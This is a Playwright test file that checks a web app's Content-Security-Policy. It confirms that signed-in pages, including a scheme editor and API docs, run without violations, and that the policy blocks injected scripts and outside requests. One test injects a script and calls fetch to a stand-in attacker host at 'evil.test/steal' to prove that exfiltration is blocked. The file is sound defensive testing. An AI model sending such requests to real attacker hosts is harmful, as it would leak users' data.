import { expect, test, type Page } from '@playwright/test';
import { OWNER, signIn } from './fixtures';
import { SIGNED_IN_PAGES } from './pages';

// The Content-Security-Policy is strict; the pages must still work under it (no violation on any of
// them), and it must really hold (an injected script does not run, nothing leaves for another host).

function recordViolations(page: Page): string[] {
	const violations: string[] = [];
	page.on('console', (message) => {
		if (/Content Security Policy/i.test(message.text())) violations.push(`${page.url()}: ${message.text()}`);
	});
	return violations;
}

test('every kind of page renders and runs under the policy, the scheme editor and API docs included', async ({ page }) => {
	test.slow(); // every signed-in page and a competition created through the form
	const violations = recordViolations(page);
	await page.goto('/login');
	await signIn(page);
	await page.goto(`/orgs/${OWNER.organisationSlug}/competitions`);
	const form = page.locator('form[action="?/create"]');
	await form.locator('select[name="kind"]').selectOption('craftsman_award');
	await form.locator('input[name="title"]').fill('CSP 工匠评选');
	await form.locator('input[name="slug"]').fill('csp-award-2026');
	await form.locator('select[name="template"]').selectOption('craftsman_award');
	await form.locator('input[name="eventName"]').fill('工匠');
	await form.getByRole('button', { name: '创建' }).click();
	await expect(page).toHaveURL(/\/competitions\/[0-9a-f-]{36}$/);
	await page.getByRole('link', { name: '评分方案', exact: true }).first().click();
	await expect(page).toHaveURL(/\/scheme$/);
	// The editor's live preview is client-side code calling the API: it must run.
	await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
	await page.screenshot({ path: 'test-results/csp-scheme-editor.png', fullPage: true });
	// Every signed-in page the sweeps know of; the list ends with the API docs, whose details open below.
	for (const target of SIGNED_IN_PAGES) {
		await page.goto(target.path);
		await expect(page.locator('main'), target.name).toBeVisible();
	}
	await expect(page).toHaveURL(/\/api\/v1\/docs$/);
	await page.locator('main details summary').first().click();
	await page.screenshot({ path: 'test-results/csp-api-docs.png' });
	expect(violations).toEqual([]);
});

test('the policy holds: an injected script does not run, other hosts are unreachable, the same-origin socket connects', async ({ page }) => {
	await page.goto('/login');
	const result = await page.evaluate(async () => {
		const script = document.createElement('script');
		script.textContent = 'window.__injected = true';
		document.body.append(script);
		const foreign = await fetch('http://evil.test/steal').then(
			() => 'reached',
			() => 'blocked'
		);
		const socket = await new Promise<string>((resolve) => {
			const ws = new WebSocket(`${location.origin.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`);
			ws.onmessage = (message) => resolve(String(message.data).slice(0, 1));
			ws.onerror = () => resolve('error');
		});
		return { injected: (window as unknown as { __injected?: boolean }).__injected ?? false, foreign, socket };
	});
	// '0' is engine.io's "open" packet: the WebSocket got through connect-src 'self'.
	expect(result).toEqual({ injected: false, foreign: 'blocked', socket: '0' });
});
